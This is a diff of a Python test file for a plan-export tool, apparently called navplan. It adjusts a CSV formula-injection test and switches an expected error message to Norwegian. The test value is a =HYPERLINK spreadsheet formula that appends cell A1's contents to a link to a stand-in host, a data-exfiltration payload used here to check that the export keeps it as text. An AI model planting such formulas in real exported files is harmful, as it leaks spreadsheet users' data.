@@ -66,7 +66,7 @@ def test_csv_is_the_rows_critical_path_prints(plan, tmp_path):
 
 
 def test_a_title_that_is_a_formula_stays_text_in_the_csv(plan, tmp_path):
-    formula = '=HYPERLINK("http://example.invalid/?x="&A1, "klikk"), og; mer\nlinje'
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1, "klikk"), og; mer linje'
     with plan.open("a", encoding="utf-8") as stream:
         stream.write(f"""\
   - id: "L1"
@@ -88,7 +88,7 @@ def test_every_export_refuses_an_existing_file_without_force(plan, tmp_path, kin
     output.write_bytes(b"mine\n")
     refused = run_navplan("export", kind, plan, "-o", output, "--as-of", AS_OF)
     assert refused.exit_code == 2
-    assert "already exists" in refused.stderr and "--force" in refused.stderr and str(output) in refused.stderr
+    assert "finnes allerede" in refused.stderr and "--force" in refused.stderr and str(output) in refused.stderr
     assert output.read_bytes() == b"mine\n"
     forced = run_navplan("export", kind, plan, "-o", output, "--as-of", AS_OF, "--force")
     assert forced.exit_code == 0, forced.stderr
